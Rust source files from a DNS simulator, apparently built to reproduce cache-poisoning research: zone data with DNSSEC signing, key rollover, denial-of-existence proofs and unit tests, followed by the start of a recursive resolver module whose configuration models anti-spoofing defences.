            mname: origin.prepend("ns1").unwrap_or_else(|_| origin.clone()),
            rname: origin.prepend("hostmaster").unwrap_or_else(|_| origin.clone()),
            serial: 20210823,
            refresh: 7200,
            retry: 900,
            expire: 1_209_600,
            minimum: 300,
        };
        zone.add(origin, 3600, soa);
        zone
    }

    /// Marks the zone as DNSSEC-signed.
    pub fn sign(mut self) -> Self {
        self.signed = true;
        self
    }

    /// Adds a record with an explicit TTL.
    pub fn add(&mut self, name: DomainName, ttl: u32, rdata: RData) -> &mut Self {
        self.records.entry(name.clone()).or_default().push(ResourceRecord::new(name, ttl, rdata));
        self
    }

    /// Adds a record with the zone default TTL.
    pub fn add_default(&mut self, name: DomainName, rdata: RData) -> &mut Self {
        self.add(name, self.default_ttl, rdata)
    }

    /// Convenience: add an `A` record.
    pub fn add_a(&mut self, name: &str, addr: Ipv4Addr) -> &mut Self {
        let name: DomainName = name.parse().expect("valid name");
        self.add_default(name, RData::A(addr))
    }

    /// Convenience: add an `NS` record at the apex plus its glue `A` record.
    pub fn add_ns(&mut self, ns_host: &str, addr: Ipv4Addr) -> &mut Self {
        let host: DomainName = ns_host.parse().expect("valid name");
        self.add_default(self.origin.clone(), RData::Ns(host.clone()));
        self.add_default(host, RData::A(addr))
    }

    /// Convenience: add an `MX` record plus the mail host's `A` record.
    pub fn add_mx(&mut self, preference: u16, mail_host: &str, addr: Ipv4Addr) -> &mut Self {
        let host: DomainName = mail_host.parse().expect("valid name");
        self.add_default(self.origin.clone(), RData::Mx { preference, exchange: host.clone() });
        self.add_default(host, RData::A(addr))
    }

    /// Convenience: add a `TXT` record.
    pub fn add_txt(&mut self, name: &str, text: &str) -> &mut Self {
        let name: DomainName = name.parse().expect("valid name");
        self.add_default(name, RData::Txt(text.to_string()))
    }

    /// Convenience: add an `SRV` record plus the target's `A` record.
    pub fn add_srv(&mut self, service: &str, port: u16, target: &str, addr: Ipv4Addr) -> &mut Self {
        let service: DomainName = service.parse().expect("valid name");
        let target_name: DomainName = target.parse().expect("valid name");
        self.add_default(service, RData::Srv { priority: 5, weight: 0, port, target: target_name.clone() });
        self.add_default(target_name, RData::A(addr))
    }

    /// Convenience: add a `NAPTR` record (eduroam/Radius dynamic discovery).
    pub fn add_naptr(&mut self, service: &str, replacement: &str) -> &mut Self {
        self.add_default(
            self.origin.clone(),
            RData::Naptr {
                order: 100,
                preference: 10,
                flags: "s".into(),
                service: service.to_string(),
                regexp: String::new(),
                replacement: replacement.parse().expect("valid name"),
            },
        )
    }

    /// Convenience: add an `IPSECKEY` record.
    pub fn add_ipseckey(&mut self, name: &str, gateway: Ipv4Addr) -> &mut Self {
        let name: DomainName = name.parse().expect("valid name");
        self.add_default(name, RData::IpsecKey { precedence: 10, gateway, public_key: vec![0xAA; 32] })
    }

    /// Convenience: add a `CNAME` record.
    pub fn add_cname(&mut self, name: &str, target: &str) -> &mut Self {
        let name: DomainName = name.parse().expect("valid name");
        self.add_default(name, RData::Cname(target.parse().expect("valid name")))
    }

    /// Number of records in the zone (excluding simulated RRSIGs).
    pub fn record_count(&self) -> usize {
        self.records.values().map(Vec::len).sum()
    }

    /// All names that have records in this zone.
    pub fn names(&self) -> impl Iterator<Item = &DomainName> {
        self.records.keys()
    }

    /// Whether the query name belongs to this zone.
    pub fn contains(&self, name: &DomainName) -> bool {
        name.is_subdomain_of(&self.origin)
    }

    /// Looks up records for a query.
    ///
    /// `ANY` returns every record at the name (the response-inflation vector),
    /// and a `CNAME` at the name is returned for any type except `CNAME`
    /// itself, as per RFC 1034 resolution rules.
    pub fn lookup(&self, name: &DomainName, qtype: RecordType) -> LookupResult {
        if !self.contains(name) {
            return LookupResult::OutOfZone;
        }
        let Some(records) = self.records.get(name) else {
            return LookupResult::NxDomain;
        };
        let mut matched: Vec<ResourceRecord> = if qtype == RecordType::ANY {
            records.clone()
        } else {
            records.iter().filter(|rr| rr.rtype() == qtype).cloned().collect()
        };
        if matched.is_empty() {
            // CNAME fallback.
            if let Some(cname) = records.iter().find(|rr| rr.rtype() == RecordType::CNAME) {
                matched.push(cname.clone());
            } else {
                return LookupResult::NoData;
            }
        }
        if self.signed {
            let sigs: Vec<ResourceRecord> = matched
                .iter()
                .map(|rr| {
                    ResourceRecord::new(
                        rr.name.clone(),
                        rr.ttl,
                        RData::Rrsig { type_covered: rr.rtype(), signer: self.origin.clone(), valid: true },
                    )
                })
                .collect();
            matched.extend(sigs);
        }
        LookupResult::Records(matched)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn n(s: &str) -> DomainName {
        s.parse().unwrap()
    }

    fn victim_zone() -> Zone {
        let mut z = Zone::new(n("vict.im"));
        z.add_ns("ns1.vict.im", "123.0.0.53".parse().unwrap());
        z.add_a("www.vict.im", "30.0.0.25".parse().unwrap());
        z.add_mx(10, "mail.vict.im", "30.0.0.26".parse().unwrap());
        z.add_txt("vict.im", "v=spf1 ip4:30.0.0.0/24 -all");
        z.add_srv("_xmpp-server._tcp.vict.im", 5269, "xmpp.vict.im", "30.0.0.27".parse().unwrap());
        z.add_naptr("aaa+auth:radius.tls.tcp", "_radiustls._tcp.vict.im");
        z.add_ipseckey("vpn.vict.im", "30.0.0.99".parse().unwrap());
        z.add_cname("alias.vict.im", "www.vict.im");
        z
    }

    #[test]
    fn lookup_by_type() {
        let z = victim_zone();
        match z.lookup(&n("www.vict.im"), RecordType::A) {
            LookupResult::Records(rrs) => {
                assert_eq!(rrs.len(), 1);
                assert_eq!(rrs[0].rdata.as_ipv4(), Some("30.0.0.25".parse().unwrap()));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn any_returns_everything_at_apex() {
        let z = victim_zone();
        match z.lookup(&n("vict.im"), RecordType::ANY) {
            LookupResult::Records(rrs) => {
                // SOA, NS, MX, TXT, NAPTR at minimum.
                assert!(rrs.len() >= 5, "got {}", rrs.len());
                let types: Vec<RecordType> = rrs.iter().map(|r| r.rtype()).collect();
                assert!(types.contains(&RecordType::SOA));
                assert!(types.contains(&RecordType::MX));
                assert!(types.contains(&RecordType::TXT));
                assert!(types.contains(&RecordType::NAPTR));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn nxdomain_nodata_and_out_of_zone() {
        let z = victim_zone();
        assert_eq!(z.lookup(&n("missing.vict.im"), RecordType::A), LookupResult::NxDomain);
        assert_eq!(z.lookup(&n("www.vict.im"), RecordType::TXT), LookupResult::NoData);
        assert_eq!(z.lookup(&n("other.example"), RecordType::A), LookupResult::OutOfZone);
    }

    #[test]
    fn cname_fallback() {
        let z = victim_zone();
        match z.lookup(&n("alias.vict.im"), RecordType::A) {
            LookupResult::Records(rrs) => {
                assert_eq!(rrs.len(), 1);
                assert_eq!(rrs[0].rtype(), RecordType::CNAME);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn signed_zone_attaches_rrsigs() {
        let mut z = Zone::new(n("secure.example")).sign();
        z.add_a("www.secure.example", "192.0.2.1".parse().unwrap());
        match z.lookup(&n("www.secure.example"), RecordType::A) {
            LookupResult::Records(rrs) => {
                assert_eq!(rrs.len(), 2);
                assert!(rrs.iter().any(|r| r.rtype() == RecordType::RRSIG));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn srv_and_ipseckey_lookups() {
        let z = victim_zone();
        assert!(matches!(z.lookup(&n("_xmpp-server._tcp.vict.im"), RecordType::SRV), LookupResult::Records(_)));
        assert!(matches!(z.lookup(&n("vpn.vict.im"), RecordType::IPSECKEY), LookupResult::Records(_)));
    }

    #[test]
    fn record_count_and_names() {
        let z = victim_zone();
        assert!(z.record_count() >= 10);
        assert!(z.names().any(|name| *name == n("mail.vict.im")));
        assert!(z.contains(&n("deep.sub.domain.vict.im")));
        assert!(!z.contains(&n("vict.com")));
    }
}
