//! Authoritative zone data.
//!
//! A [`Zone`] holds the records an authoritative nameserver serves for one
//! origin. The builder covers all the record types used by the applications
//! in Table 1 (mail, XMPP, Radius, SPF/DKIM policies, IPSECKEY, ...) and
//! supports the `ANY` query expansion the FragDNS attacker uses to inflate
//! responses. [`Zone::sign`] runs the full DNSSEC pipeline over the zone:
//! DNSKEY publication, per-RRset RRSIGs, and an NSEC or NSEC3 denial chain
//! (see [`crate::dnssec`]).

use crate::dnssec::denial::{base32hex_decode, nsec3_chain, nsec3_covers, nsec3_hash, nsec_chain, nsec_covers};
use crate::dnssec::keys::{DsAnchor, KeyManager};
use crate::dnssec::sign::{DenialConfig, Signer, SigningPolicy};
use crate::name::DomainName;
use crate::rdata::{RData, RecordType, ResourceRecord};
use netsim::prelude::SimTime;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::net::Ipv4Addr;

/// Result of a zone lookup.
#[derive(Debug, Clone, PartialEq)]
pub enum LookupResult {
    /// Records matching the query.
    Records(Vec<ResourceRecord>),
    /// The name exists but has no records of the requested type.
    NoData,
    /// The name does not exist in the zone.
    NxDomain,
    /// The query name is outside this zone.
    OutOfZone,
}

/// The signing state of a signed zone: its key inventory, policy, and the
/// simulated time of the last pipeline pass.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ZoneSigning {
    /// KSK/ZSK inventory, including any in-flight rollover.
    pub keys: KeyManager,
    /// Signature windows and denial flavour.
    pub policy: SigningPolicy,
    /// When the zone was last signed.
    pub signed_at: SimTime,
}

/// An authoritative zone.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Zone {
    /// The zone origin (apex).
    pub origin: DomainName,
    /// Default TTL for records added without an explicit TTL.
    pub default_ttl: u32,
    records: BTreeMap<DomainName, Vec<ResourceRecord>>,
    signing: Option<ZoneSigning>,
}

impl Zone {
    /// Creates an empty zone with a standard SOA record.
    pub fn new(origin: DomainName) -> Self {
        let mut zone = Zone { origin: origin.clone(), default_ttl: 300, records: BTreeMap::new(), signing: None };
        let soa = RData::Soa {
            mname: origin.prepend("ns1").unwrap_or_else(|_| origin.clone()),
            rname: origin.prepend("hostmaster").unwrap_or_else(|_| origin.clone()),
            serial: 20210823,
            refresh: 7200,
            retry: 900,
            expire: 1_209_600,
            minimum: 300,
        };
        zone.add(origin, 3600, soa);
        zone
    }

    /// Runs the DNSSEC signing pipeline over the zone: publishes the DNSKEY
    /// RRset, builds the denial chain, and signs every RRset under the
    /// policy at simulated time `now`.
    pub fn sign(mut self, keys: KeyManager, policy: SigningPolicy, now: SimTime) -> Zone {
        self.signing = Some(ZoneSigning { keys, policy, signed_at: now });
        self.resign(now);
        self
    }

    /// Re-runs the signing pipeline in place (after a key rollover step or
    /// a record change). No-op on an unsigned zone.
    pub fn resign(&mut self, now: SimTime) {
        let Some(signing) = &mut self.signing else { return };
        signing.signed_at = now;
        let signing = self.signing.clone().expect("just checked");

        // Strip every DNSSEC artifact from the previous pass so the
        // pipeline is idempotent (NSEC3 owners disappear entirely).
        self.records.retain(|_, rrs| {
            rrs.retain(|rr| {
                !matches!(rr.rtype(), RecordType::RRSIG | RecordType::NSEC | RecordType::NSEC3 | RecordType::DNSKEY)
            });
            !rrs.is_empty()
        });

        // Publish the DNSKEY RRset at the apex.
        for rdata in signing.keys.published_dnskeys() {
            self.add(self.origin.clone(), self.default_ttl, rdata);
        }

        // Build the denial chain over the authoritative names.
        let names: Vec<(DomainName, Vec<RecordType>)> = self
            .records
            .iter()
            .map(|(name, rrs)| {
                let mut types: Vec<RecordType> = rrs.iter().map(ResourceRecord::rtype).collect();
                types.sort_by_key(|t| t.number());
                types.dedup();
                (name.clone(), types)
            })
            .collect();
        let chain = match &signing.policy.denial {
            DenialConfig::Nsec => nsec_chain(&names, self.default_ttl),
            DenialConfig::Nsec3(params) => {
                let included: Vec<(DomainName, Vec<RecordType>)> = if params.opt_out {
                    // Opt-out: insecure delegations (NS-only, non-apex
                    // names) are left out of the chain; the spans around
                    // them silently cover — and permit — them.
                    names
                        .into_iter()
                        .filter(|(name, types)| *name == self.origin || !types.iter().all(|t| *t == RecordType::NS))
                        .collect()
                } else {
                    names
                };
                nsec3_chain(&included, params, &self.origin, self.default_ttl)
            }
        };
        for rr in chain {
            self.records.entry(rr.name.clone()).or_default().push(rr);
        }

        // Sign every RRset: the active ZSK for zone data, the KSK for the
        // DNSKEY RRset itself (the Signer picks).
        let signer = Signer::new(&signing.keys, &signing.policy, self.origin.clone());
        let mut sigs = Vec::new();
        for rrs in self.records.values() {
            let mut by_type: BTreeMap<u16, Vec<ResourceRecord>> = BTreeMap::new();
            for rr in rrs {
                by_type.entry(rr.rtype().number()).or_default().push(rr.clone());
            }
            for set in by_type.values() {
                sigs.push(signer.sign_rrset(set, now));
            }
        }
        for sig in sigs {
            self.records.entry(sig.name.clone()).or_default().push(sig);
        }
    }

    /// Whether the zone has been through the signing pipeline.
    pub fn is_signed(&self) -> bool {
        self.signing.is_some()
    }

    /// The zone's signing state, if signed.
    pub fn signing(&self) -> Option<&ZoneSigning> {
        self.signing.as_ref()
    }

    /// Mutable signing state (for rollover steps); call [`Zone::resign`]
    /// afterwards so the published records catch up.
    pub fn signing_mut(&mut self) -> Option<&mut ZoneSigning> {
        self.signing.as_mut()
    }

    /// The DS trust anchor a validating resolver should hold for this zone.
    pub fn trust_anchor(&self) -> Option<DsAnchor> {
        self.signing.as_ref().map(|s| s.keys.anchor(&self.origin))
    }

    /// RFC 6781 pre-publish step: generates the next ZSK, publishes it in
    /// the DNSKEY RRset, and re-signs. No-op on an unsigned zone.
    pub fn start_key_rollover(&mut self, now: SimTime) {
        if let Some(signing) = &mut self.signing {
            signing.keys.start_rollover();
            self.resign(now);
        }
    }

    /// Completes a rollover: the pre-published ZSK takes over signing and
    /// the old key retires. Under a lenient policy the retired key stays
    /// published (the forgery window); `retire_immediately` drops it in the
    /// same step. Re-signs either way. No-op on an unsigned zone.
    pub fn complete_key_rollover(&mut self, now: SimTime) {
        if let Some(signing) = &mut self.signing {
            signing.keys.promote_rollover();
            if signing.policy.retire_immediately {
                signing.keys.drop_retired();
            }
            self.resign(now);
        }
    }

    /// Adds a record with an explicit TTL.
    pub fn add(&mut self, name: DomainName, ttl: u32, rdata: RData) -> &mut Self {
        self.records.entry(name.clone()).or_default().push(ResourceRecord::new(name, ttl, rdata));
        self
    }

    /// Adds a record with the zone default TTL.
    pub fn add_default(&mut self, name: DomainName, rdata: RData) -> &mut Self {
        self.add(name, self.default_ttl, rdata)
    }

    /// Convenience: add an `A` record.
    pub fn add_a(&mut self, name: &str, addr: Ipv4Addr) -> &mut Self {
        let name: DomainName = name.parse().expect("valid name");
        self.add_default(name, RData::A(addr))
    }

    /// Convenience: add an `NS` record at the apex plus its glue `A` record.
    pub fn add_ns(&mut self, ns_host: &str, addr: Ipv4Addr) -> &mut Self {
        let host: DomainName = ns_host.parse().expect("valid name");
        self.add_default(self.origin.clone(), RData::Ns(host.clone()));
        self.add_default(host, RData::A(addr))
    }

    /// Convenience: add an `MX` record plus the mail host's `A` record.
    pub fn add_mx(&mut self, preference: u16, mail_host: &str, addr: Ipv4Addr) -> &mut Self {
        let host: DomainName = mail_host.parse().expect("valid name");
        self.add_default(self.origin.clone(), RData::Mx { preference, exchange: host.clone() });
        self.add_default(host, RData::A(addr))
    }

    /// Convenience: add a `TXT` record.
    pub fn add_txt(&mut self, name: &str, text: &str) -> &mut Self {
        let name: DomainName = name.parse().expect("valid name");
        self.add_default(name, RData::Txt(text.to_string()))
    }

    /// Convenience: add an `SRV` record plus the target's `A` record.
    pub fn add_srv(&mut self, service: &str, port: u16, target: &str, addr: Ipv4Addr) -> &mut Self {
        let service: DomainName = service.parse().expect("valid name");
        let target_name: DomainName = target.parse().expect("valid name");
        self.add_default(service, RData::Srv { priority: 5, weight: 0, port, target: target_name.clone() });
        self.add_default(target_name, RData::A(addr))
    }

    /// Convenience: add a `NAPTR` record (eduroam/Radius dynamic discovery).
    pub fn add_naptr(&mut self, service: &str, replacement: &str) -> &mut Self {
        self.add_default(
            self.origin.clone(),
            RData::Naptr {
                order: 100,
                preference: 10,
                flags: "s".into(),
                service: service.to_string(),
                regexp: String::new(),
                replacement: replacement.parse().expect("valid name"),
            },
        )
    }

    /// Convenience: add an `IPSECKEY` record.
    pub fn add_ipseckey(&mut self, name: &str, gateway: Ipv4Addr) -> &mut Self {
        let name: DomainName = name.parse().expect("valid name");
        self.add_default(name, RData::IpsecKey { precedence: 10, gateway, public_key: vec![0xAA; 32] })
    }

    /// Convenience: add a `CNAME` record.
    pub fn add_cname(&mut self, name: &str, target: &str) -> &mut Self {
        let name: DomainName = name.parse().expect("valid name");
        self.add_default(name, RData::Cname(target.parse().expect("valid name")))
    }

    /// Number of data records in the zone (excluding DNSSEC artifacts).
    pub fn record_count(&self) -> usize {
        self.records
            .values()
            .flatten()
            .filter(|rr| {
                !matches!(rr.rtype(), RecordType::RRSIG | RecordType::NSEC | RecordType::NSEC3 | RecordType::DNSKEY)
            })
            .count()
    }

    /// All names that have records in this zone.
    pub fn names(&self) -> impl Iterator<Item = &DomainName> {
        self.records.keys()
    }

    /// Whether the query name belongs to this zone.
    pub fn contains(&self, name: &DomainName) -> bool {
        name.is_subdomain_of(&self.origin)
    }

    /// Looks up records for a query.
    ///
    /// `ANY` returns every record at the name (the response-inflation vector),
    /// and a `CNAME` at the name is returned for any type except `CNAME`
    /// itself, as per RFC 1034 resolution rules. In a signed zone, typed
    /// answers carry the RRSIGs covering the matched type.
    pub fn lookup(&self, name: &DomainName, qtype: RecordType) -> LookupResult {
        if !self.contains(name) {
            return LookupResult::OutOfZone;
        }
        let Some(records) = self.records.get(name) else {
            return LookupResult::NxDomain;
        };
        if qtype == RecordType::ANY {
            return LookupResult::Records(records.clone());
        }
        let mut matched: Vec<ResourceRecord> = records.iter().filter(|rr| rr.rtype() == qtype).cloned().collect();
        if matched.is_empty() {
            // CNAME fallback.
            if let Some(cname) = records.iter().find(|rr| rr.rtype() == RecordType::CNAME) {
                matched.push(cname.clone());
            } else {
                return LookupResult::NoData;
            }
        }
        if self.signing.is_some() && qtype != RecordType::RRSIG {
            let covered = matched[0].rtype();
            matched.extend(
                records
                    .iter()
                    .filter(|rr| rr.rtype() == RecordType::RRSIG && rr.rdata.covered_type() == covered)
                    .cloned(),
            );
        }
        LookupResult::Records(matched)
    }

    /// The RRset of the given type at `name`, plus its covering RRSIGs.
    pub fn rrset_with_sigs(&self, name: &DomainName, rtype: RecordType) -> Vec<ResourceRecord> {
        let Some(records) = self.records.get(name) else { return Vec::new() };
        records
            .iter()
            .filter(|rr| rr.rtype() == rtype || (rr.rtype() == RecordType::RRSIG && rr.rdata.covered_type() == rtype))
            .cloned()
            .collect()
    }

    /// The apex DNSKEY RRset plus its RRSIG (empty on an unsigned zone).
    /// Signed responses carry this in the additional section so a validator
    /// can chain DS → DNSKEY → RRSIG without extra round trips.
    pub fn dnskey_records(&self) -> Vec<ResourceRecord> {
        self.rrset_with_sigs(&self.origin, RecordType::DNSKEY)
    }

    /// The authenticated denial records for a negative answer about `name`:
    /// the signed SOA plus the signed NSEC/NSEC3 records proving either
    /// NXDOMAIN (a span covers the name) or NoData (the matching record's
    /// type bitmap omits the queried type). Empty on an unsigned zone.
    pub fn denial_records(&self, name: &DomainName) -> Vec<ResourceRecord> {
        let Some(signing) = &self.signing else { return Vec::new() };
        let mut out = self.rrset_with_sigs(&self.origin, RecordType::SOA);
        match &signing.policy.denial {
            DenialConfig::Nsec => {
                for (owner, rrs) in &self.records {
                    let proves = rrs.iter().any(|rr| match &rr.rdata {
                        RData::Nsec { next, .. } => {
                            owner.to_lowercase() == name.to_lowercase() || nsec_covers(owner, next, name)
                        }
                        _ => false,
                    });
                    if proves {
                        out.extend(self.rrset_with_sigs(owner, RecordType::NSEC));
                    }
                }
            }
            DenialConfig::Nsec3(params) => {
                let qhash = nsec3_hash(name, params);
                for (owner, rrs) in &self.records {
                    let proves = rrs.iter().any(|rr| match &rr.rdata {
                        RData::Nsec3 { next_hashed, .. } => owner
                            .labels()
                            .first()
                            .and_then(|label| base32hex_decode(label))
                            .is_some_and(|own| own == qhash || nsec3_covers(&own, next_hashed, &qhash)),
                        _ => false,
                    });
                    if proves {
                        out.extend(self.rrset_with_sigs(owner, RecordType::NSEC3));
                    }
                }
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dnssec::verify::{Validation, Validator};

    fn n(s: &str) -> DomainName {
        s.parse().unwrap()
    }

    fn victim_zone() -> Zone {
        let mut z = Zone::new(n("vict.im"));
        z.add_ns("ns1.vict.im", "123.0.0.53".parse().unwrap());
        z.add_a("www.vict.im", "30.0.0.25".parse().unwrap());
        z.add_mx(10, "mail.vict.im", "30.0.0.26".parse().unwrap());
        z.add_txt("vict.im", "v=spf1 ip4:30.0.0.0/24 -all");
        z.add_srv("_xmpp-server._tcp.vict.im", 5269, "xmpp.vict.im", "30.0.0.27".parse().unwrap());
        z.add_naptr("aaa+auth:radius.tls.tcp", "_radiustls._tcp.vict.im");
        z.add_ipseckey("vpn.vict.im", "30.0.0.99".parse().unwrap());
        z.add_cname("alias.vict.im", "www.vict.im");
        z
    }

    fn signed_victim_zone(policy: SigningPolicy) -> Zone {
        victim_zone().sign(KeyManager::new(7), policy, SimTime::ZERO)
    }

    #[test]
    fn lookup_by_type() {
        let z = victim_zone();
        match z.lookup(&n("www.vict.im"), RecordType::A) {
            LookupResult::Records(rrs) => {
                assert_eq!(rrs.len(), 1);
                assert_eq!(rrs[0].rdata.as_ipv4(), Some("30.0.0.25".parse().unwrap()));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn any_returns_everything_at_apex() {
        let z = victim_zone();
        match z.lookup(&n("vict.im"), RecordType::ANY) {
            LookupResult::Records(rrs) => {
                // SOA, NS, MX, TXT, NAPTR at minimum.
                assert!(rrs.len() >= 5, "got {}", rrs.len());
                let types: Vec<RecordType> = rrs.iter().map(|r| r.rtype()).collect();
                assert!(types.contains(&RecordType::SOA));
                assert!(types.contains(&RecordType::MX));
                assert!(types.contains(&RecordType::TXT));
                assert!(types.contains(&RecordType::NAPTR));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn nxdomain_nodata_and_out_of_zone() {
        let z = victim_zone();
        assert_eq!(z.lookup(&n("missing.vict.im"), RecordType::A), LookupResult::NxDomain);
        assert_eq!(z.lookup(&n("www.vict.im"), RecordType::TXT), LookupResult::NoData);
        assert_eq!(z.lookup(&n("other.example"), RecordType::A), LookupResult::OutOfZone);
    }

    #[test]
    fn cname_fallback() {
        let z = victim_zone();
        match z.lookup(&n("alias.vict.im"), RecordType::A) {
            LookupResult::Records(rrs) => {
                assert_eq!(rrs.len(), 1);
                assert_eq!(rrs[0].rtype(), RecordType::CNAME);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn signing_pipeline_attaches_verifiable_rrsigs() {
        let z = signed_victim_zone(SigningPolicy::default());
        let anchor = z.trust_anchor().expect("signed zone has an anchor");
        let answer = match z.lookup(&n("www.vict.im"), RecordType::A) {
            LookupResult::Records(rrs) => rrs,
            other => panic!("unexpected {other:?}"),
        };
        assert!(answer.iter().any(|r| r.rtype() == RecordType::RRSIG), "typed answers carry RRSIGs");

        // The served answer plus the apex DNSKEY set validates end to end.
        let mut response = answer;
        response.extend(z.dnskey_records());
        let v = Validator::new(n("vict.im"), Some(anchor.clone()), 0);
        assert_eq!(v.validate(&response, &n("www.vict.im"), RecordType::A), Validation::Secure);
    }

    #[test]
    fn denial_records_prove_nxdomain_and_nodata() {
        for policy in [SigningPolicy::default(), SigningPolicy::nsec3(false)] {
            let z = signed_victim_zone(policy);
            let anchor = z.trust_anchor().unwrap();
            let v = Validator::new(n("vict.im"), Some(anchor.clone()), 0);

            // NXDOMAIN: denial for a name that does not exist.
            let mut response = z.denial_records(&n("missing.vict.im"));
            assert!(!response.is_empty());
            response.extend(z.dnskey_records());
            assert_eq!(v.validate(&response, &n("missing.vict.im"), RecordType::A), Validation::Secure);

            // NoData: denial for an existing name, absent type.
            let mut nodata = z.denial_records(&n("www.vict.im"));
            nodata.extend(z.dnskey_records());
            assert_eq!(v.validate(&nodata, &n("www.vict.im"), RecordType::TXT), Validation::Secure);

            // The same proof does not stand in for an existing RRset.
            assert!(matches!(v.validate(&nodata, &n("www.vict.im"), RecordType::A), Validation::Bogus(_)));
        }
    }

    #[test]
    fn resign_after_rollover_keeps_the_zone_valid() {
        let mut z = signed_victim_zone(SigningPolicy::default());
        let anchor = z.trust_anchor().unwrap();
        let signing = z.signing_mut().unwrap();
        signing.keys.start_rollover();
        signing.keys.promote_rollover();
        z.resign(SimTime::from_secs(60));

        let mut response = match z.lookup(&n("www.vict.im"), RecordType::A) {
            LookupResult::Records(rrs) => rrs,
            other => panic!("unexpected {other:?}"),
        };
        response.extend(z.dnskey_records());
        let v = Validator::new(n("vict.im"), Some(anchor.clone()), 60);
        assert_eq!(v.validate(&response, &n("www.vict.im"), RecordType::A), Validation::Secure);
    }

    #[test]
    fn srv_and_ipseckey_lookups() {
        let z = victim_zone();
        assert!(matches!(z.lookup(&n("_xmpp-server._tcp.vict.im"), RecordType::SRV), LookupResult::Records(_)));
        assert!(matches!(z.lookup(&n("vpn.vict.im"), RecordType::IPSECKEY), LookupResult::Records(_)));
    }

    #[test]
    fn record_count_and_names() {
        let z = victim_zone();
        let unsigned_count = z.record_count();
        assert!(unsigned_count >= 10);
        assert!(z.names().any(|name| *name == n("mail.vict.im")));
        assert!(z.contains(&n("deep.sub.domain.vict.im")));
        assert!(!z.contains(&n("vict.com")));
        // Signing adds DNSSEC artifacts but does not change the data count.
        let signed = signed_victim_zone(SigningPolicy::default());
        assert_eq!(signed.record_count(), unsigned_count);
    }
}
