//! The recursive resolver node — the victim of every attack in the paper.
//!
//! The resolver implements the RFC 5452 anti-spoofing defences and all the
//! knobs whose presence or absence the measurement campaigns test:
//!
//! * **source-port randomisation** (or weaker policies for ablations),
//! * **TXID randomisation**, matched case-sensitively against responses,
//! * optional **0x20 case randomisation** of query names,
//! * **bailiwick filtering** of response records,
//! * optional **DNSSEC validation** (modelled signatures),
//! * configurable **EDNS buffer size** (Figure 4 distribution),
//! * configurable **ANY-caching policy** (Table 5),
//! * a configurable **upstream transport policy** ([`UpstreamTransport`]):
//!   UDP only (truncated answers are unusable and surface as SERVFAIL with
//!   the TC bit echoed), RFC 7766 **TCP fallback** (a TC=1 answer triggers a
//!   re-query over TCP), or **TCP only** (the paper's strongest deployable
//!   countermeasure: no UDP ephemeral port for SadDNS to recover, no
//!   fragmented UDP answers for FragDNS to poison),
//! * the OS-level properties exposed by its [`HostStack`]: the **global ICMP
//!   rate limit** probed by SadDNS, **fragment acceptance** probed by
//!   FragDNS, and the defragmentation cache itself.
//!
//! The resolver answers clients on port 53, performs recursion towards the
//! configured delegations (or an upstream forwarder) through the generic
//! socket API, retries on timeout and returns `SERVFAIL` when all retries
//! fail — the symptom applications see when an attacker mounts a DoS through
//! the cache.

use crate::cache::{AnyCachingPolicy, Cache, SharedCache};
use crate::message::{frame_tcp, Message, Question, Rcode, TcpFrameBuffer};
use crate::name::DomainName;
use crate::rdata::{RData, RecordType, ResourceRecord};
use netsim::fasthash::FastHashMap;
use netsim::ipv4::Protocol;
use netsim::prelude::*;
use rand::Rng;
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// How the resolver chooses UDP source ports for upstream queries.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PortPolicy {
    /// A fresh uniformly random port per query (RFC 5452 behaviour).
    Random,
    /// Sequentially increasing ports (pre-Kaminsky behaviour; trivially
    /// predictable, used for ablation experiments).
    Sequential(u16),
    /// A single fixed port for every query (worst case).
    Fixed(u16),
}

/// Which transport the resolver uses for upstream queries (RFC 7766).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum UpstreamTransport {
    /// UDP only, no TCP support: a truncated (TC=1) answer is unusable —
    /// the resolver answers its clients SERVFAIL (with the TC bit echoed)
    /// instead of silently dropping the lookup.
    UdpOnly,
    /// UDP first; on a TC=1 response the resolver re-queries the same
    /// question over TCP with a fresh TXID (the RFC 7766 behaviour).
    UdpTcFallback,
    /// Every upstream query goes over TCP. This is the `DnsOverTcp`
    /// defence: there is no UDP ephemeral port for the SadDNS side channel
    /// to recover and responses never travel as fragmentable UDP datagrams,
    /// so FragDNS has nothing to poison.
    TcpOnly,
}

/// The local port of the resolver's upstream TCP connections — see
/// [`well_known_ports::RESOLVER_TCP`](crate::well_known_ports::RESOLVER_TCP)
/// for why it is fixed. Kept as a re-declaration-free alias so existing call
/// sites (and the CA's vantage resolvers) all read the same registry entry.
pub const RESOLVER_TCP_PORT: u16 = crate::well_known_ports::RESOLVER_TCP;

/// A delegation entry: queries for names under `zone` are sent to one of the
/// listed nameserver addresses. `signed` marks DNSSEC-signed zones.
#[derive(Debug, Clone)]
pub struct Delegation {
    /// The zone suffix this delegation covers.
    pub zone: DomainName,
    /// Authoritative nameserver addresses.
    pub nameservers: Vec<Ipv4Addr>,
    /// Whether the zone is DNSSEC-signed (a validating resolver will run
    /// the full RRSIG/denial validation pipeline on its responses).
    pub signed: bool,
    /// The DS trust anchor chaining the zone's KSK to this resolver. A
    /// signed zone *without* an anchor validates as `Insecure` — the
    /// downgrade gap the DowngradeToInsecure vector drives through.
    pub trust_anchor: Option<crate::dnssec::DsAnchor>,
}

/// Configuration of a recursive resolver.
#[derive(Debug, Clone)]
pub struct ResolverConfig {
    /// Address the resolver listens on and queries from.
    pub addr: Ipv4Addr,
    /// Source-port selection policy.
    pub port_policy: PortPolicy,
    /// Inclusive range from which random ephemeral ports are drawn. The
    /// (1024, 65535) default models the full ephemeral range; experiments
    /// that need a faster SadDNS scan narrow it and scale results up.
